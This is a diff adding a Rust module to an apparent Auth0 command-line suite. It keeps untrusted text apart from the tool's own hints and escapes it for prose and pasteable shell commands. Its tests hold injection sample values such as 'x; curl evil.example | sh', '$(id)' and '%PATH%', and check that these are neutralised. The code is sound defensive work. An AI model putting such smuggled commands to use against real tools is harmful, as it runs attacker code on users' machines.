@@ -1,0 +1,298 @@
+//! Text of ours and foreign text, told apart by their types.
+//!
+//! A server, a file, the environment or an argument can hold any text: a second line that reads
+//! like a hint of ours, or a command behind a semicolon. [`Foreign`] holds such text and has no
+//! `Display`. There are three ways out, each safe where it is used: [`Foreign::shown`] in prose,
+//! [`Foreign::quoted`] for a name in prose, [`Foreign::in_command`] in a command that a person may
+//! paste.
+//!
+//! A [`Hint`] is what we tell a person to do next. It is made from a literal or with
+//! [`hint!`](crate::hint), whose arguments must be [`Trusted`]: numbers, literals, our own
+//! validated types, and foreign text that came through one of the three ways. Anything else does
+//! not compile:
+//!
+//! ```
+//! use auth0_suite::hint;
+//! use auth0_suite::base::text::foreign;
+//! let name = String::from("x; curl evil.example | sh");
+//! let hint = hint!("delete it: auth0-clients delete {}", foreign(&name).in_command("ID"));
+//! assert_eq!(hint.as_str(), "delete it: auth0-clients delete \"x; curl evil.example | sh\"");
+//! ```
+//! ```compile_fail
+//! let name = String::from("foreign");
+//! let hint = auth0_suite::hint!("delete it: auth0-clients delete {}", name);
+//! ```
+//! ```compile_fail
+//! let name = String::from("foreign");
+//! let hint = auth0_suite::hint!("delete it: auth0-clients delete {}", name.as_str());
+//! ```
+//! ```compile_fail
+//! let name = 5; // Even a number: a captured argument would escape the check.
+//! let hint = auth0_suite::hint!("delete it: auth0-clients delete {name}");
+//! ```
+//! ```compile_fail
+//! use auth0_suite::base::error::Error;
+//! let name = String::from("foreign");
+//! let error = Error::usage("no").hint(format!("delete it: auth0-clients delete {name}"));
+//! ```
+
+mod wrap;
+
+use std::borrow::Cow;
+use std::fmt;
+use std::path::Path;
+
+pub(crate) use self::wrap::{Text, wrapped};
+use crate::base::escape;
+
+/// The most characters of foreign text in prose.
+const MAX_SHOWN: usize = 500;
+
+/// The longest name in quotes, in characters.
+const MAX_QUOTED: usize = 120;
+
+/// The longest word in a command that we suggest, in characters.
+const MAX_WORD: usize = 256;
+
+/// Text that a server, a file, the environment or an argument said.
+pub struct Foreign<'a>(Cow<'a, str>);
+
+/// Marks text as foreign.
+pub fn foreign<'a>(text: &'a (impl AsRef<str> + ?Sized)) -> Foreign<'a> {
+    Foreign(Cow::Borrowed(text.as_ref()))
+}
+
+/// A path as people write it: without the `\\?\` that Windows puts before the paths it resolved.
+pub fn path(path: &Path) -> Foreign<'_> {
+    Foreign(match path.to_string_lossy() {
+        Cow::Borrowed(text) => without_verbatim(text),
+        Cow::Owned(text) => Cow::Owned(without_verbatim(&text).into_owned()),
+    })
+}
+
+/// `\\?\C:\x` is `C:\x`, and `\\?\UNC\host\share` is `\\host\share`.
+fn without_verbatim(text: &str) -> Cow<'_, str> {
+    match (text.strip_prefix(r"\\?\UNC\"), text.strip_prefix(r"\\?\")) {
+        (Some(share), _) => Cow::Owned(format!(r"\\{share}")),
+        (None, Some(local)) if local.as_bytes().get(1) == Some(&b':') => Cow::Borrowed(local),
+        _ => Cow::Borrowed(text),
+    }
+}
+
+impl Foreign<'_> {
+    /// For prose: escaped, on one line, of bounded length.
+    pub fn shown(&self) -> Shown {
+        Shown(cut(&self.0, MAX_SHOWN, |text| escape::visible(text).into_owned()))
+    }
+
+    /// For a name in prose: escaped, on one line, of bounded length, between single quotes that
+    /// the name cannot end.
+    pub fn quoted(&self) -> Shown {
+        let inner = cut(&self.0, MAX_QUOTED, |text| {
+            escape::visible(&text.replace('\\', r"\\").replace('\'', r"\'")).into_owned()
+        });
+        Shown(format!("'{inner}'"))
+    }
+
+    /// For a name in prose that needs no quotes where it is one plain word, and has them otherwise.
+    pub fn named(&self) -> Shown {
+        let plain = !self.0.is_empty() && self.0.chars().all(is_plain);
+        if plain { self.shown() } else { self.quoted() }
+    }
+
+    /// For a command that a person may paste: a plain word as it is, other text between double
+    /// quotes if those make it one literal word in POSIX shells, PowerShell and `cmd.exe` alike,
+    /// else `placeholder`.
+    pub fn in_command(&self, placeholder: &'static str) -> Shown {
+        let text = &*self.0;
+        let bounded = !text.is_empty() && text.chars().nth(MAX_WORD).is_none();
+        // A word that begins with a dash would be an option.
+        if !bounded || text.starts_with('-') {
+            Shown(placeholder.to_owned())
+        } else if text.chars().all(is_plain) && !text.starts_with(['@', '~', '=']) {
+            Shown(text.to_owned())
+        } else if text.chars().all(is_literal_in_quotes) {
+            Shown(format!("\"{text}\""))
+        } else {
+            Shown(placeholder.to_owned())
+        }
+    }
+}
+
+/// Characters that mean nothing to any shell, anywhere but at the start of a word.
+fn is_plain(c: char) -> bool {
+    c.is_ascii_alphanumeric() || "._:/@+=-".contains(c)
+}
+
+/// Characters that stand for themselves between double quotes in every shell. `$`, a backtick, `\`
+/// and `!` do not in POSIX shells, `%` does not in `cmd.exe`, and PowerShell takes typographic
+/// quotes for plain ones. Letters of right-to-left scripts could show the words in another order.
+fn is_literal_in_quotes(c: char) -> bool {
+    let right_to_left = matches!(c, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}'
+        | '\u{fe70}'..='\u{feff}' | '\u{10800}'..='\u{10fff}' | '\u{1e800}'..='\u{1efff}');
+    c == ' '
+        || is_plain(c)
+        || "|,()[]{}#~*?&;<>^".contains(c)
+        || (!c.is_ascii() && c.is_alphanumeric() && !escape::is_unsafe(c) && !right_to_left)
+}
+
+/// The first `most` characters of `text` after `escape`, and `…` if there are more.
+fn cut(text: &str, most: usize, escape: impl Fn(&str) -> String) -> String {
+    match text.char_indices().nth(most) {
+        None => escape(text),
+        Some((end, _)) => escape(text.get(..end).unwrap_or_default()) + "…",
+    }
+}
+
+/// Foreign text that is safe where it stands.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Shown(String);
+
+impl Shown {
+    /// Several of them, with words of ours between.
+    pub fn join(parts: impl IntoIterator<Item = Self>, between: &'static str) -> Self {
+        Self(parts.into_iter().map(|part| part.0).collect::<Vec<_>>().join(between))
+    }
+}
+
+impl fmt::Display for Shown {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+/// What a person can do next: a command to run, or a setting to change. Its line breaks are ours.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Hint(Cow<'static, str>);
+
+impl Hint {
+    /// The text.
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
+
+    /// For [`hint!`](crate::hint) only, which checks that the arguments are trusted.
+    #[doc(hidden)]
+    pub fn of_trusted(text: fmt::Arguments<'_>) -> Self {
+        Self(Cow::Owned(text.to_string()))
+    }
+}
+
+impl From<&'static str> for Hint {
+    fn from(text: &'static str) -> Self {
+        Self(Cow::Borrowed(text))
+    }
+}
+
+impl fmt::Display for Hint {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+/// Text that can stand in a hint: ours, or foreign text made safe. Only this crate decides which
+/// types those are.
+pub trait Trusted: fmt::Display + sealed::Ours {}
+
+impl<T: fmt::Display + sealed::Ours + ?Sized> Trusted for T {}
+
+pub(crate) mod sealed {
+    /// Marks a type whose text no server, file or argument can choose freely.
+    pub trait Ours {}
+
+    impl<T: Ours + ?Sized> Ours for &T {}
+    impl Ours for &'static str {}
+    impl Ours for super::Shown {}
+    impl Ours for super::Hint {}
+    impl Ours for u8 {}
+    impl Ours for u16 {}
+    impl Ours for u32 {}
+    impl Ours for u64 {}
+    impl Ours for usize {}
+    impl Ours for i64 {}
+}
+
+/// For [`hint!`](crate::hint) only.
+#[doc(hidden)]
+pub fn trusted<T: Trusted + ?Sized>(text: &T) -> &T {
+    text
+}
+
+/// Makes a [`Hint`] as `format!` makes a string. Every argument must be [`Trusted`], and none can
+/// be captured from its name between the braces.
+#[macro_export]
+macro_rules! hint {
+    ($format:literal $(, $argument:expr)* $(,)?) => {
+        // The format string comes from a macro, so that it cannot capture arguments unseen.
+        $crate::base::text::Hint::of_trusted(format_args!(
+            concat!($format) $(, $crate::base::text::trusted(&$argument))*
+        ))
+    };
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn quoted_text_stays_between_its_quotes_on_one_line() {
+        for (text, quoted) in [
+            ("My App", "'My App'"),
+            ("Bob's", r"'Bob\'s'"),
+            (r"a\", r"'a\\'"),
+            ("a\nhint: run x", r"'a\nhint: run x'"),
+            ("a\u{202e}b", r"'a\u{202e}b'"),
+        ] {
+            assert_eq!(foreign(text).quoted().to_string(), quoted);
+        }
+        let long = foreign(&"é".repeat(10_000)).quoted().to_string();
+        assert_eq!(long.chars().count(), MAX_QUOTED + 3);
+        assert!(long.ends_with("…'"));
+    }
+
+    #[test]
+    fn what_is_in_a_command_is_one_word_of_any_shell() {
+        for (text, word) in [
+            ("app0001", "app0001"),
+            ("read:clients", "read:clients"),
+            ("https://acme.eu.auth0.com/api/v2/", "https://acme.eu.auth0.com/api/v2/"),
+            ("auth0|123", "\"auth0|123\""),
+            ("Café Menü", "\"Café Menü\""),
+            ("c1; curl evil|sh", "\"c1; curl evil|sh\""),
+            ("$(id)", "ID"),
+            ("`id`", "ID"),
+            ("a\"b", "ID"),
+            ("a'b", "ID"),
+            ("%PATH%", "ID"),
+            ("a!b", "ID"),
+            (r"a\b", "ID"),
+            ("“$x”", "ID"),
+            ("a\nb", "ID"),
+            ("a\u{200d}b", "ID"),
+            ("שלום", "ID"),
+            ("--yes", "ID"),
+            ("", "ID"),
+        ] {
+            assert_eq!(foreign(text).in_command("ID").to_string(), word, "{text:?}");
+        }
+        assert_eq!(foreign(&"a".repeat(300)).in_command("ID").to_string(), "ID");
+    }
+
+    #[test]
+    fn paths_are_shown_without_the_verbatim_prefix_of_windows() {
+        for (text, shown) in [
+            (r"\\?\C:\Users\x", r"C:\Users\x"),
+            (r"\\?\UNC\host\share\x", r"\\host\share\x"),
+            (r"\\?\Volume{1}\x", r"\\?\Volume{1}\x"),
+            ("/home/x", "/home/x"),
+        ] {
+            assert_eq!(path(Path::new(text)).shown().to_string(), shown);
+        }
+    }
+
+    #[test]
+    fn a_hint_is_put_together_from_trusted_parts() {
+        let ids = Shown::join(["a", "b\n"].iter().map(|id| foreign(id).shown()), ", ");
+        assert_eq!(hint!("{} of {}: {}", 2_u8, "these", ids).as_str(), r"2 of these: a, b\n");
+    }
+}
